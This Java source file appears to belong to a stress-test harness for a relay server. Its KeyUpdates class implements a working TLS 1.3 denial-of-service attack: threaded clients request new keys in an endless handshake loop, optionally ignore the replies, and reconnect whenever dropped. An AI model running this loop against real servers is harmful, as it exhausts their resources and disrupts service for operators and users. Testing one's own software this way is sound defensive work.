package far.relay.attack;

import java.io.IOException;
import java.io.InputStream;
import java.io.InterruptedIOException;
import java.net.Socket;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.TimeUnit;
import javax.net.ssl.SSLSocket;

/** Clients over TLS 1.3 that ask for new keys without end, and read what the server answers, or do not. */
final class KeyUpdates implements Attack {
    private static final int CONNECTIONS = 2;
    private static final long END_MILLIS = 5_000;

    private final boolean reading;

    KeyUpdates(boolean reading) {
        this.reading = reading;
    }

    @Override
    public Running start(Target target) throws IOException {
        Crowd crowd = new Crowd(target);
        for (int i = 0; i < CONNECTIONS; i++) {
            crowd.run(crowd::askForKeys);
        }
        return crowd;
    }

    private final class Crowd implements Running {
        private final Target target;
        private final List<Thread> threads = new ArrayList<>();
        private final List<Socket> open = new ArrayList<>();
        private boolean closed;

        Crowd(Target target) {
            this.target = target;
        }

        private synchronized void run(Runnable task) {
            Thread thread = new Thread(task);
            thread.setDaemon(true);
            thread.start();
            threads.add(thread);
        }

        private synchronized boolean add(Socket plain) {
            open.add(plain);
            return !closed;
        }

        private synchronized boolean remove(Socket plain) {
            open.remove(plain);
            return !closed;
        }

        private void askForKeys() {
            boolean goOn = true;
            while (goOn) {
                Socket plain = new Socket();
                goOn = add(plain);
                try (plain) {
                    plain.connect(target.address());
                    SSLSocket tls = target.secure(plain);
                    tls.startHandshake();
                    if (reading) {
                        run(() -> readAll(tls));
                    }
                    while (true) {
                        tls.startHandshake(); // once it stands, this asks for new keys (RFC 8446, section 4.6.3)
                    }
                } catch (IOException e) {
                    goOn = remove(plain); // the server has had enough of it: once more
                }
            }
        }

        private void readAll(SSLSocket tls) {
            try {
                InputStream in = tls.getInputStream();
                byte[] bytes = new byte[1024];
                while (in.read(bytes) >= 0) {
                    // what they are does not matter
                }
            } catch (IOException e) {
                // it is over
            }
        }

        @Override
        public void close() throws IOException {
            List<Thread> all;
            synchronized (this) {
                closed = true;
                for (Socket plain : List.copyOf(open)) {
                    plain.close();
                }
                all = List.copyOf(threads);
            }
            try {
                for (Thread thread : all) {
                    thread.join(END_MILLIS);
                }
            } catch (InterruptedException e) {
                throw new InterruptedIOException();
            }
        }
    }

    @Override
    public boolean suits(boolean tls) {
        return tls;
    }

    @Override
    public long patience() {
        return TimeUnit.MILLISECONDS.toNanos(100);
    }

    @Override
    public String toString() {
        return CONNECTIONS + " clients ask for new keys without end" + (reading ? "" : " and do not read the answers");
    }
}
